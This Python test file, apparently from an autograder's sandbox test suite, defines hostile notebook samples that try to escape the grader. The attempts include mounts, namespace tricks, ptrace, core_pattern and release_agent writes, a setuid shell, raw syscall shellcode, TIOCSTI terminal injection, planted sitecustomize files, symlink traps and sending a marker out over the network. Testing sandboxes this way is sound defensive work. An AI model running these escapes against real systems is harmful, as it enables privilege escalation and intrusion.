"""Getting out: out of the file system, the network, the process, the user, and into the machine."""

from __future__ import annotations

from tests.attacks.hostile.notebooks import DIED, Hostile

FAMILY = "escaping"

# System calls by number: x86-64 and the numbers that other architectures use.
NUMBERS = """
import platform
old = platform.machine() == "x86_64"
NUMBER = dict(bpf=321, perf_event_open=298, userfaultfd=323, add_key=248, keyctl=250, kcmp=312,
              process_vm_readv=310, process_vm_writev=311, finit_module=313, kexec_file_load=320,
              iopl=172, ptrace=101) if old else dict(
              bpf=280, perf_event_open=241, userfaultfd=282, add_key=217, keyctl=219, kcmp=272,
              process_vm_readv=270, process_vm_writev=271, finit_module=273, kexec_file_load=294,
              ptrace=117)
NUMBER.update(io_uring_setup=425, open_tree=428, move_mount=429, fsopen=430, clone3=435,
              pidfd_open=434, pidfd_getfd=438, process_madvise=440, mount_setattr=442,
              pidfd_send_signal=424, memfd_secret=447)
def syscall(name, *args):
    result = libc.syscall(ctypes.c_long(NUMBER[name]), *map(ctypes.c_long, args))
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return result
"""

ESCAPING = [
    Hostile(
        "another file system", FAMILY,
        "Mounts, unmounts, makes what is read-only writable, changes the root.",
        code=NUMBERS + """
foreign = OUT["foreign"].encode()
for flags in (4096, 32 | 4096, 16384 | 4096, 1 << 18):  # bind, remount, recursive, private
    attempt(f"mount {flags}", call, "mount", foreign, b".", None, flags, None)
    attempt(f"remount {flags}", call, "mount", None, b"/", None, flags | 32, None)
for kind in (b"tmpfs", b"proc", b"sysfs", b"overlay", b"cgroup2", b"devtmpfs"):
    attempt(f"mount of {kind}", call, "mount", kind, b".", kind, 0, None)
attempt("umount", call, "umount2", sys.prefix.encode(), 2)
attempt("pivot_root", call, "pivot_root", b".", b".")
attempt("chroot", os.chroot, ".")
attempt("open_tree", syscall, "open_tree", -100, 0, 1 | 0x8000)
buffer = ctypes.create_string_buffer(b"tmpfs")
attempt("fsopen", syscall, "fsopen", ctypes.addressof(buffer), 0)
attempt("mount_setattr", syscall, "mount_setattr", -100, ctypes.addressof(buffer), 0x8000, 0, 32)
""",
    ),
    Hostile(
        "other name spaces", FAMILY,
        "Makes name spaces in which it would be root, or joins those of other processes.",
        code=NUMBERS + """
for name, flag in dict(user=1 << 28, mount=1 << 17, pid=1 << 29, net=1 << 30, ipc=1 << 27,
                       uts=1 << 26, cgroup=1 << 25, time=1 << 7).items():
    attempt(f"unshare {name}", call, "unshare", flag)
    def cloned(flag=flag):
        child = libc.syscall(ctypes.c_long(56 if old else 220), ctypes.c_long(flag | 17), 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        if child < 0:
            raise OSError(ctypes.get_errno(), "clone")
        return os.waitpid(child, 0)
    attempt(f"clone into {name}", cloned)
class Clone(ctypes.Structure):
    _fields_ = [(n, ctypes.c_uint64) for n in "flags pidfd child parent exit stack size tls".split()]
asked = Clone(flags=1 << 28, exit=17)
def cloned3():
    child = syscall("clone3", ctypes.addressof(asked), ctypes.sizeof(asked))
    if child == 0:
        os._exit(0)
attempt("clone3 into a user namespace", cloned3)
for pid in ("1", "self", str(OUT["canary"])):
    for kind in ("user", "mnt", "net", "pid"):
        attempt(f"setns {kind} of {pid}",
                lambda: call("setns", os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0))
for path in ("uid_map", "gid_map", "setgroups"):
    attempt(f"writing {path}", pathlib.Path(f"/proc/self/{path}").write_text, "0 0 1")
""",
    ),
    Hostile(
        "into other processes", FAMILY,
        "Attaches to other processes, reads and writes their memory, takes their descriptors.",
        code=NUMBERS + """
for pid in (OUT["canary"], os.getppid() or 1, 1):
    if pid == os.getpid():
        continue
    attempt(f"ptrace attach {pid}", syscall, "ptrace", 16, pid, 0, 0)
    attempt(f"ptrace seize {pid}", syscall, "ptrace", 0x4206, pid, 0, 0)
    attempt(f"a write to {pid}", open, f"/proc/{pid}/mem", "r+b")
    handle = libc.syscall(ctypes.c_long(434), ctypes.c_long(pid), ctypes.c_long(0))
    for number in range(3):
        attempt(f"descriptor {number} of {pid}", syscall, "pidfd_getfd", handle, number, 0)
    attempt(f"madvise of {pid}", syscall, "process_madvise", handle, 0, 0, 4, 0)
    attempt(f"kcmp with {pid}", syscall, "kcmp", os.getpid(), pid, 0, 0, 0)
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
own = ctypes.create_string_buffer(8)
part = Part(ctypes.addressof(own), 8)
for name in ("process_vm_readv", "process_vm_writev"):
    for pid in (OUT["canary"], os.getppid()):
        attempt(f"{name} of {pid}", syscall, name, pid, ctypes.addressof(part), 1,
                ctypes.addressof(part), 1, 0)
""",
    ),
    Hostile(
        "the kernel's own switches", FAMILY,
        "Writes to core_pattern, sysrq, control groups and other files that the kernel acts on.",
        code="""
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
             "/proc/sys/kernel/hostname", "/proc/sys/vm/overcommit_memory", "/proc/sys/fs/file-max",
             "/proc/sys/kernel/ns_last_pid", "/sys/kernel/uevent_helper", "/sys/power/state",
             "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent",
             "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
             "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/kernel/security/lsm",
             "/sys/devices/system/cpu/cpu1/online", f"/proc/{OUT['canary']}/oom_score_adj"):
    attempt(f"writing {path}", open, path, "r+b")
attempt("a lower oom score", pathlib.Path("/proc/self/oom_score_adj").write_text, "-1000")
attempt("another user's sysctl", pathlib.Path("/proc/sys/user/max_user_namespaces").write_text, "9")
""",
    ),
    Hostile(
        "becoming root", FAMILY,
        "Changes its user, raises capabilities, runs and makes programs that change the user.",
        code="""
import shutil
for name, args in dict(setuid=(0,), setgid=(0,), setresuid=(0, 0, 0), setreuid=(0, 0),
                       setgroups=([0],), seteuid=(0,), setfsuid=(0,)).items():
    if hasattr(os, name):
        attempt(name, getattr(os, name), *args)
class Header(ctypes.Structure):
    _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]
all_of_them = (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
attempt("capset", call, "capset", ctypes.byref(Header(0x20080522, 0)), ctypes.byref(all_of_them))
attempt("keeping capabilities", call, "prctl", 47, 2, 21, 0, 0)
shutil.copy("/bin/sh", "own-sh")
os.chmod("own-sh", 0o6755)
for command in (["./own-sh", "-p", "-c", "id -u"], ["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"],
                ["pkexec", "id", "-u"], ["newgrp", "root", "-c", "id -u"], ["passwd", "-d", "root"],
                ["mount", "-t", "tmpfs", "none", "."], ["unshare", "-Ur", "id", "-u"],
                ["nsenter", "-t", "1", "-a", "id", "-u"], ["bwrap", "--bind", "/", "/", "id"],
                ["newuidmap", str(os.getpid()), "0", "0", "1"]):
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=5,
                              stdin=subprocess.DEVNULL)
    except (OSError, subprocess.TimeoutExpired) as error:
        print("failed:", command[0], type(error).__name__)
    else:
        got = done.returncode == 0 and done.stdout.strip() in ("0", "")
        print("SUCCEEDED:" if got else "failed:", command, done.returncode, done.stderr[:100])
print("user:", os.getuid(), os.geteuid())
if not os.geteuid():
    print("SUCCEEDED: this is root")
""",
    ),
    Hostile(
        "the network", FAMILY,
        "Sends its name to listeners on this machine and to the world, by every protocol.",
        code="""
import urllib.request
me = OUT["me"].encode()
def tcp(host, port):
    with socket.create_connection((host, port), 2) as sock:
        sock.sendall(me)
def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(me, (host, port))
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", socket.gethostname()):
    attempt(f"TCP to {host}", tcp, host, OUT["tcp"])
    attempt(f"UDP to {host}", udp, host, OUT["udp"])
attempt("TCP to the world", tcp, "192.0.2.1", 80)
attempt("UDP to the world", udp, "192.0.2.1", 53)
attempt("a name of the world", socket.gethostbyname, "example.org")
attempt("HTTP", urllib.request.urlopen, f"http://127.0.0.1:{OUT['tcp']}/{OUT['me']}", None, 2)
for name, family, kind, protocol in (
    ("raw", socket.AF_INET, socket.SOCK_RAW, 1), ("packet", 17, socket.SOCK_RAW, 3),
    ("netlink", 16, socket.SOCK_RAW, 0), ("vsock", 40, socket.SOCK_STREAM, 0),
    ("alg", 38, socket.SOCK_SEQPACKET, 0), ("bluetooth", 31, socket.SOCK_RAW, 1),
    ("can", 29, socket.SOCK_RAW, 1), ("xdp", 44, socket.SOCK_RAW, 0),
    ("tcp", socket.AF_INET, socket.SOCK_STREAM, 0), ("tcp6", socket.AF_INET6, socket.SOCK_STREAM, 0)
):
    attempt(f"a socket: {name}", socket.socket, family, kind, protocol)
""",
    ),
    Hostile(
        "sockets in the file system", FAMILY,
        "Connects to the sockets of services: a docker.sock, abstract ones, and by passing links.",
        code="""
me = OUT["me"].encode()
def stream(address):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(2)
        sock.connect(address)
        sock.sendall(me)
def datagram(address):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
        sock.sendto(me, address)
attempt("a socket by its path", stream, OUT["unix"])
attempt("an abstract socket", stream, "\\0" + OUT["abstract"])
attempt("a datagram socket", datagram, OUT["datagram"])
os.symlink(OUT["unix"], "link.sock")
attempt("a socket by a link", stream, "link.sock")
attempt("a socket by another name", os.link, OUT["unix"], "other.sock")
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket",
             "/run/systemd/private", "/run/systemd/journal/socket", "/dev/log",
             f"/run/user/{os.getuid()}/bus", "/tmp/.X11-unix/X0"):
    attempt(f"connecting to {path}", stream, path)
for line in pathlib.Path("/proc/net/unix").read_text().splitlines() if os.path.exists("/proc/net/unix") else ():
    path = line.split()[-1]
    if path.startswith("@") or "kernel-" in path or "/ag-" in path:
        own = str(pathlib.Path.cwd().parent)
        known = any(part in path for part in (own, os.environ.get("JPY_PARENT_PID", "?")))
        print("sees" if known else "sees another:", path)
""",
    ),
    Hostile(
        "rare system calls", FAMILY,
        "Calls what sandboxes were left through before: bpf, io_uring, userfaultfd, keyrings.",
        code=NUMBERS + """
buffer = ctypes.addressof(ctypes.create_string_buffer(512))
for name, args in dict(bpf=(0, buffer, 128), io_uring_setup=(8, buffer), userfaultfd=(0,),
                       perf_event_open=(buffer, 0, -1, -1, 0), keyctl=(0, -3, 1),
                       add_key=(buffer, buffer, buffer, 1, -3), finit_module=(0, buffer, 0),
                       kexec_file_load=(0, 0, 0, buffer, 0)).items():
    attempt(name, syscall, name, *args)
if old:
    attempt("iopl", syscall, "iopl", 3)
for name, args in dict(swapon=(b"x", 0), reboot=(0,), sethostname=(b"x", 1), acct=(b"x",), klogctl=(3, ctypes.c_char_p(b"x" * 64), 64)).items():
    attempt(name, call, name, *args)
attempt("setting the clock", time.clock_settime, time.CLOCK_REALTIME, time.time())
""",
    ),
    Hostile(
        "system calls by another door", FAMILY,
        "Calls the kernel as a 32-bit program would, with numbers that a filter may not know.",
        code="""
import mmap, platform
def by(code, number, *registers):
    # In a child: the filter may answer with a signal.
    child = os.fork()
    if child:
        return os.waitpid(child, 0)[1]
    area = mmap.mmap(-1, 4096, prot=7)
    area.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
    result = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 3)(address)(*registers)
    os._exit(0 if result < 0 else 77)
if platform.machine() == "x86_64":
    # mov eax, number; syscall; ret: the x32 ABI, with socket(AF_INET, SOCK_STREAM, 0)
    x32 = b"\\xb8" + (0x40000000 | 41).to_bytes(4, "little") + b"\\x0f\\x05\\xc3"
    # mov eax, number; mov ebx, edi; mov ecx, esi; int 0x80; ret: the i386 ABI
    i386 = (b"\\x53\\xb8" + (359).to_bytes(4, "little")
            + b"\\x89\\xfb\\x89\\xf1\\x31\\xd2\\xcd\\x80\\x5b\\xc3")
    unshare = (b"\\x53\\xb8" + (310).to_bytes(4, "little")
               + b"\\x89\\xfb\\xcd\\x80\\x5b\\xc3")
    for name, code, registers in (("x32", x32, (2, 1, 0)), ("i386 socket", i386, (2, 1, 0)),
                                  ("i386 unshare", unshare, (1 << 28, 0, 0))):
        status = by(code, 0, *registers)
        got = os.WIFEXITED(status) and os.WEXITSTATUS(status) == 77
        print("SUCCEEDED:" if got else "failed:", name, status)
""",
    ),
    Hostile(
        "the terminal", FAMILY,
        "Types into the grader's terminal, where the instructor would press return.",
        code="""
import fcntl, termios
for path in ("/dev/tty", "/dev/pts/0", "/dev/pts/1", "/dev/console", "/proc/self/fd/0"):
    try:
        handle = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError as error:
        print("failed:", path, type(error).__name__)
        continue
    attempt(f"typing into {path}", fcntl.ioctl, handle, 0x5412, b"x")
    attempt(f"pasting into {path}", fcntl.ioctl, handle, 0x541C, b"\\x03")
    attempt(f"writing to the terminal at {path}", fcntl.ioctl, handle, termios.TIOCGWINSZ, b"x" * 8)
for number in range(3):
    attempt(f"typing into {number}", fcntl.ioctl, number, 0x5412, b"x")
""",
    ),
    Hostile(
        "signals and limits of other processes", FAMILY,
        "Signals another process, lowers its limits and its priority, moves it to one processor.",
        code=NUMBERS + """
import resource
canary = OUT["canary"]
for number in (0, signal.SIGCONT, signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    attempt(f"signal {number}", os.kill, canary, number)
    attempt(f"signal {number} to its group", os.killpg, canary, number)
info = ctypes.create_string_buffer(128)
attempt("a queued signal", call, "sigqueue", canary, 15, None)
handle = libc.syscall(ctypes.c_long(434), ctypes.c_long(canary), ctypes.c_long(0))
attempt("a signal by a descriptor", syscall, "pidfd_send_signal", handle, 15, 0, 0)
attempt("a lower limit", resource.prlimit, canary, resource.RLIMIT_NOFILE, (3, 3))
attempt("no processor time", resource.prlimit, canary, resource.RLIMIT_CPU, (1, 1))
attempt("a lower priority", os.setpriority, os.PRIO_PROCESS, canary, 19)
attempt("one processor", os.sched_setaffinity, canary, {0})
attempt("another scheduler", os.sched_setscheduler, canary, os.SCHED_IDLE, os.sched_param(0))
left, right = socket.socketpair()
import fcntl
attempt("a signal by a socket", lambda: (
    fcntl.fcntl(left, fcntl.F_SETOWN, canary), fcntl.fcntl(left, 10, 9),
    fcntl.fcntl(left, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK), right.sendall(b"x")))
""",
    ),
    Hostile(
        "foreign files", FAMILY,
        "Writes, makes, removes, renames and changes files that are not its own.",
        code="""
foreign, course = pathlib.Path(OUT["foreign"]), pathlib.Path(OUT["course"])
lab = OUT["lab"]
for path in (foreign / "secret", course / "gradebook.db", course / "grades.csv",
             course / "nbgrader_config.py", course / "solutions" / lab / f"{lab}.ipynb",
             course / "submitted" / "n1-right" / lab / f"{lab}.ipynb"):
    attempt(f"appending to {path}", open, path, "a")
    attempt(f"cutting {path}", os.truncate, path, 0)
    attempt(f"removing {path}", os.unlink, path)
    attempt(f"renaming {path}", os.rename, path, "mine")
    attempt(f"permissions of {path}", os.chmod, path, 0)
    attempt(f"times of {path}", os.utime, path, (0, 0))
    attempt(f"attributes of {path}", os.setxattr, path, "user.me", b"x")
    attempt(f"owner of {path}", os.chown, path, os.getuid(), os.getgid())
for folder in (foreign, course, course / "submitted", course / "submitted" / "n1-right" / lab,
               pathlib.Path(OUT["home"]), pathlib.Path("/etc")):
    attempt(f"a file in {folder}", (folder / OUT["me"]).touch)
    attempt(f"a folder in {folder}", (folder / (OUT["me"] + "-d")).mkdir)
    attempt(f"a link in {folder}", os.symlink, "/etc/passwd", folder / (OUT["me"] + "-l"))
    attempt(f"a socket in {folder}", socket.socket(socket.AF_UNIX).bind, str(folder / "s"))
    attempt(f"permissions of {folder}", os.chmod, folder, 0)
# Where it lies in /tmp, there is one of that name in the submission's own.
try:
    pathlib.Path(OUT["temporary"], OUT["me"]).touch()
except OSError:
    pass
""",
    ),
    Hostile(
        "the Python that grades", FAMILY,
        "Writes into the interpreter, its packages and this package, to run in the next process.",
        code="""
import autograder, matplotlib, numpy, site, sysconfig
planted = "raise SystemExit"
for folder in {*map(pathlib.Path, (sysconfig.get_paths()["purelib"], sysconfig.get_paths()["stdlib"],
               sys.prefix, sys.base_prefix, pathlib.Path(sys.executable).parent, "/usr/local/bin",
               "/usr/lib/python3/dist-packages", autograder.__path__[0], numpy.__path__[0],
               matplotlib.get_cachedir(), site.getusersitepackages(), OUT["home"] + "/.config"))}:
    if str(folder).startswith((os.environ["HOME"], os.getcwd())):
        continue  # its own
    for name in ("sitecustomize.py", "usercustomize.py", f"{OUT['me']}.pth", "autograder"):
        attempt(f"{name} in {folder}", (folder / name).write_text, planted)
for module in (autograder, os, json, numpy, sys.modules["autograder.kernel.student"]):
    attempt(f"appending to {module.__file__}", open, module.__file__, "a")
    attempt(f"permissions of {module.__file__}", os.chmod, module.__file__, 0o777)
for path in ("/proc/self/exe", sys.executable, os.path.realpath(sys.executable), "/bin/sh"):
    attempt(f"overwriting {path}", open, path, "r+b")
""",
    ),
    Hostile(
        "links for the grader's cleaning up", FAMILY,
        "Plants links, then dies: whoever cleans up or starts anew may follow them.",
        code="""
place = pathlib.Path.cwd().parent
sockets = [pathlib.Path(get_ipython().kernel.parent.connection_file).parent]
for folder in (place, place / "work", place / "home", *sockets):
    for name, target in (("out", OUT["foreign"]), ("secret", OUT["foreign"] + "/secret"),
                         ("gradebook", OUT["course"] + "/gradebook.db"), ("up", "../..")):
        try:
            os.symlink(target, folder / name)
            print("planted", folder / name)
        except OSError as error:
            print("failed:", folder / name, type(error).__name__)
for folder in sockets:
    for name in ("refused", "k.json"):
        for what in (lambda p: p.write_text("refused: " + OUT["me"]),
                     lambda p: (p.unlink(), p.symlink_to(OUT["foreign"] + "/secret"))):
            try:
                what(folder / name)
                print("changed", folder / name)
            except OSError as error:
                print("failed:", folder / name, type(error).__name__)
for name in ("work", "home", "data", "x", "root"):
    attempt(f"moving {name} away", os.rename, place / name, place / "moved")
os.makedirs("deep/" + "d/" * 900)
os.chmod("deep", 0)
sys.stdout.flush()
time.sleep(0.1)
os._exit(1)
""",
        told=DIED,
    ),
    Hostile(
        "descriptors to the examiner", FAMILY,
        "Passes descriptors of its own to the examiner, and asks for the examiner's.",
        code="""
import array
kept = []
for _ in range(20):
    try:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(1)
            sock.connect("../x")
            passed = array.array("i", [os.open("/dev/zero", os.O_RDONLY)] * 200)
            sock.sendmsg([b"\\0\\0\\0\\x02{}"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, passed)])
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
            _, extra, *_ = sock.recvmsg(1, 4096)
            if any(kind == socket.SCM_RIGHTS for _, kind, _ in extra):
                print("SUCCEEDED: a descriptor of the examiner's")
    except OSError as error:
        print("failed:", type(error).__name__)
        break
""",
    ),
]  # fmt: skip
